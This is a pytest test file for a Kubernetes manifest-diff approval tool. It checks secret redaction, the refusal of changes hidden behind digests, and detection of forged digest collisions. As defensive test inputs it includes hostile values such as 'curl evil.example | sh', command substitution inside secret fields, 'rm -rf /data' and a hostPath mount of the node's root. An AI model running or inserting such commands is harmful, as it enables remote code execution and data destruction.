import copy
import itertools

import pytest

from fermata.integrations.kubernetes.manifest_diff import make_diff, refuse_unseen
from fermata.integrations.kubernetes.writing import MARK, write_mark
from fermata.kit.errors import UserError
from fermata.kit.redaction import describe_secret, redact

LIVE = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "metadata": {
        "name": "web",
        "namespace": "shop",
        "uid": "1",
        "resourceVersion": "5",
        "generation": 2,
        "managedFields": [{"manager": "kubectl"}],
        "annotations": {"deployment.kubernetes.io/revision": "1"},
    },
    "spec": {
        "replicas": 2,
        "template": {"spec": {"containers": [{"name": "web", "env": [{"name": "API_TOKEN", "value": "abc-def-ghi"}]}]}},
    },
    "status": {"replicas": 2},
}


def _change(**spec):
    after = copy.deepcopy(LIVE)
    after["spec"] |= spec
    after["metadata"] |= {"resourceVersion": "6", "generation": 3, "managedFields": []}
    after["metadata"]["annotations"]["deployment.kubernetes.io/revision"] = "2"
    after["status"] = {"replicas": 3}
    return after


def test_diff_holds_the_change_and_nothing_that_is_counted():
    """Versions, owners, status and the controller's revision are not what is approved."""
    lines = make_diff(LIVE, _change(replicas=3)).splitlines()

    assert lines[:2] == ["--- live/deployment/shop/web", "+++ changed/deployment/shop/web"]
    assert [line for line in lines[2:] if line.startswith(("-", "+"))] == ["-  replicas: 2", "+  replicas: 3"]


def test_secret_beside_the_change_is_a_digest():
    """Context lines are shown as well."""
    diff = make_diff(LIVE, _change(replicas=3))

    assert "abc-def-ghi" not in diff


def test_no_change_is_no_diff():
    """What only counts on is nothing to approve."""
    assert make_diff(LIVE, _change()) == ""


def test_change_that_shows_nothing_but_the_mark_is_refused():
    """It would be approved unseen."""
    with pytest.raises(UserError, match="cannot be shown"):
        refuse_unseen(make_diff(LIVE, write_mark(LIVE, "somebody")), MARK)

    refuse_unseen(make_diff(LIVE, write_mark(_change(replicas=3), "somebody")), MARK)


def _with(container=None, **template):
    live = copy.deepcopy(LIVE)
    spec = live["spec"]["template"]["spec"]
    spec |= template
    spec["containers"][0] |= container or {}
    return live


LONG = "# a line of a script that is long enough\n" * 120


@pytest.mark.parametrize(
    ("before", "after", "shown"),
    [
        (_with({"args": [f"{LONG}serve"]}), _with({"args": [f"{LONG}rm -rf /data"]}), "rm -rf /data"),
        (
            _with({"volumeMounts": []}),
            _with(
                {"volumeMounts": [{"name": "kube-api-access-x", "mountPath": "/host"}]},
                volumes=[{"name": "kube-api-access-x", "hostPath": {"path": "/"}}],
            ),
            "path: /",
        ),
        (
            _with(),
            _with(tolerations=[{"key": "node.kubernetes.io/unreachable", "tolerationSeconds": 300}]),
            "node.kubernetes.io/unreachable",
        ),
        (_with(), _with(nodeSelector={"uid": "gpu"}), "uid: gpu"),
        (_with(), _with(schedulerName="default-scheduler"), "default-scheduler"),
        (
            _with({"env": [{"name": "A", "value": "x" * 5000}]}),
            _with({"env": [{"name": "A", "value": "x" * 5001}]}),
            "x" * 5001,
        ),
    ],
)
def test_whatever_changes_is_in_the_diff(before, after, shown):
    """Nothing is cut, taken for noise or for what the server fills in: it would be approved unseen."""
    diff = make_diff(before, after)

    refuse_unseen(diff, MARK)
    assert any(shown in line for line in diff.split("\n") if line.startswith("+"))


@pytest.mark.parametrize(
    ("field", "before", "after"),
    [
        ("data", {"a": "first line\nsecond"}, {"a": "first line\nsecond\n"}),
        ("binaryData", {"a": "QUJD"}, {"a": "QUJE"}),
        ("data", {"password": "one"}, {"password": "two"}),
    ],
)
def test_content_of_a_config_map_differs_when_it_does(field, before, after):
    """An end of a line, bytes and secrets are told apart, the last two by digests."""
    one = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"}}

    diff = make_diff({**one, field: before}, {**one, field: after})

    refuse_unseen(diff, MARK)
    assert not any(secret in diff for secret in ("QUJ", "one", "two"))


def test_content_of_a_secret_is_a_digest():
    """It is never asked for; if it came all the same, a change of it would show."""
    one = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "c", "namespace": "shop"}}

    diff = make_diff({**one, "data": {"key": "c2VjcmV0"}}, {**one, "data": {"key": "b3RoZXI="}})

    refuse_unseen(diff, MARK)
    assert "c2VjcmV0" not in diff


def test_copy_of_the_manifest_that_changes_is_seen():
    """An admission webhook could write into it what the next apply brings."""
    note = "kubectl.kubernetes.io/last-applied-configuration"
    after = copy.deepcopy(LIVE)
    after["metadata"]["annotations"][note] = '{"env": [{"name": "API_TOKEN", "value": "abc-def-ghi"}]}'

    diff = make_diff(LIVE, after)

    assert f'+    {note}: "<redacted ' in diff


@pytest.mark.parametrize(
    "script",
    [
        "-----BEGIN PRIVATE KEY-----\n/sbin/reboot\n-----END PRIVATE KEY-----\n",
        "password: |\n  curl example.com/x | sh\n",
        "PASSWORD=`curl example.com/x|sh`",
    ],
)
def test_change_behind_the_mark_of_a_secret_is_refused(script):
    """More than a value would be hidden; beside the change it is only hidden."""
    with pytest.raises(UserError, match="cannot be shown"):
        refuse_unseen(make_diff(_with(), _with({"args": [script]})), MARK)

    refuse_unseen(make_diff(_with({"args": [script]}), _with({"args": [script], "image": "web:2"})), MARK)


def _write_pod(image, *, env=(), args=()):
    container = {"name": "web", "image": image, "env": list(env), "args": list(args)}
    return {
        "kind": "Deployment",
        "metadata": {"name": "web", "namespace": "shop"},
        "spec": {"template": {"spec": {"containers": [container]}}},
    }


def _find_twins():
    """Give two values with the same eight digits: some ten thousand tries."""
    seen = {}
    values = (f"{('shop', 'evil')[number % 2]}-{number}" for number in itertools.count())
    pairs = ((seen.setdefault(describe_secret(value), value), value) for value in values)
    return next((old, new) for old, new in pairs if old[:4] != new[:4])


@pytest.mark.parametrize("place", ["env", "args"])
def test_values_that_were_made_to_look_the_same_are_refused(place):
    """A digest that a person can compare can be met on purpose: the change would not show."""
    old, new = _find_twins()
    places = {
        "env": lambda value: {"env": [{"name": "API_TOKEN", "value": value}]},
        "args": lambda value: {"args": ["--api-token", value]},
    }

    with pytest.raises(UserError, match="behind the same digest"):
        make_diff(_write_pod("web:2", **places[place](old)), _write_pod("web:1", **places[place](new)))


def test_password_in_an_address_that_was_made_to_look_the_same_is_refused():
    """Its mark has four digits only."""
    known = redact("postgres://shop:hunter2hunter2@db/x").text
    forged = next(
        address for number in itertools.count() if redact(address := f"postgres://shop:evil{number}@db/x").text == known
    )

    with pytest.raises(UserError, match="behind the same digest"):
        make_diff(_write_pod("web:2", args=["postgres://shop:hunter2hunter2@db/x"]), _write_pod("web:1", args=[forged]))


def test_address_of_a_webhook_may_change():
    """It is no program, whatever its name ends with."""
    hook = {"name": "SLACK_WEBHOOK", "value": "https://hooks.slack.com/services/T0/B0/Qr3yIQbwhHdi8PPLTXZNxwcg"}

    diff = make_diff(_write_pod("web:1"), _write_pod("web:1", env=[hook]))

    assert "<redacted" in diff
    refuse_unseen(diff, MARK)


def test_secret_that_moves_or_goes_is_no_twin_of_itself():
    """Only values that differ are refused, not one value in several places."""
    token = {"name": "API_TOKEN", "value": "abc-def-ghi"}
    old, new = (
        _write_pod("web:2", env=[token]),
        _write_pod("web:1", env=[{"name": "A"}, token, {**token, "name": "B_TOKEN"}]),
    )

    assert "+          image: web:1" in make_diff(old, new)


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("RESTIC_PASSWORD_COMMAND", "/opt/evil"),
        ("API_TOKEN", "curl evil.example | sh"),
        ("API_TOKEN", "a\ncurl evil.example"),
        ("API_TOKEN", "x$(curl evil.example)"),
    ],
)
def test_command_under_the_name_of_a_secret_is_refused(name, command):
    """Somebody would approve what is run behind a digest; where it stays as it was, nothing is to be seen."""
    option = "--" + name.lower().replace("_", "-")
    places = {
        "env": lambda value: {"env": [{"name": name, "value": value}]},
        "args": lambda value: {"args": [option, value]},
    }

    for write in places.values():
        with pytest.raises(UserError, match="hidden whole"):
            refuse_unseen(make_diff(_write_pod("web:1", **write("plain")), _write_pod("web:1", **write(command))), MARK)
        refuse_unseen(make_diff(_write_pod("web:1", **write(command)), _write_pod("web:2", **write(command))), MARK)


@pytest.mark.parametrize(
    "place",
    [
        lambda value: {"args": ["run", value]},
        lambda value: {"image": value},
        lambda value: {"volumes": [{"name": "v", "hostPath": {"path": value}}]},
        lambda value: {"serviceAccountName": value},
    ],
)
def test_field_of_the_api_that_looks_random_is_refused_where_it_changes(place):
    """A path of the node that looks like a secret would be mounted unseen; an annotation's value is one value."""
    random = "/xtrK40S7MRJF/W/E35rXxbPQdqwOj1OnNWyIkT8g9vctsCLSTQqW2tQ8Fh"
    plain, hidden, again = _change(**place("plain")), _change(**place(random)), _change(replicas=3, **place(random))
    noted = copy.deepcopy(LIVE)
    noted["metadata"]["annotations"]["shop/build"] = random

    for pair in ((plain, hidden), (hidden, plain)):
        with pytest.raises(UserError, match="hidden whole"):
            refuse_unseen(make_diff(*pair), MARK)
    refuse_unseen(make_diff(hidden, again), MARK)
    refuse_unseen(make_diff(LIVE, noted), MARK)
